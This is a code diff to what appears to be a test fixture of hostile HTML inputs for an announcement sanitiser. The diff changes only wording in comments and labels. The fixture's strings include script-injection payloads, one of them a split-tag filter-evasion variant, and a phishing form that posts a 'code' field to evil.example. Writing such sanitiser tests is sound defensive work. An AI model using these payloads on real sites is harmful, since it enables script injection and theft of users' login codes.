@@ -1,6 +1,6 @@
-// What somebody might put into an announcement. Each would call `hit`, load something of its own or dress the page up.
+// Attacks in an announcement. Each would call `hit`, load a resource or change the page's look.
 
-/** By what is tried. */
+/** By type of attack. */
 export const HOSTILE: readonly (readonly [what: string, html: string])[] = [
   ['a script', '<script>hit()</script>'],
   ['a script in pieces', '<scr<script>ipt>hit()</scr</script>ipt>'],
@@ -40,7 +40,7 @@ export const HOSTILE: readonly (readonly [what: string, html: string])[] = [
   ],
   ['classes of the app', '<p class="cg-overlay" id="root">文</p>'],
   [
-    'a form that asks for the code',
+    'a form that requests the code',
     '<form action="https://evil.example/"><input name="code"><button>登录</button></form>',
   ],
   [
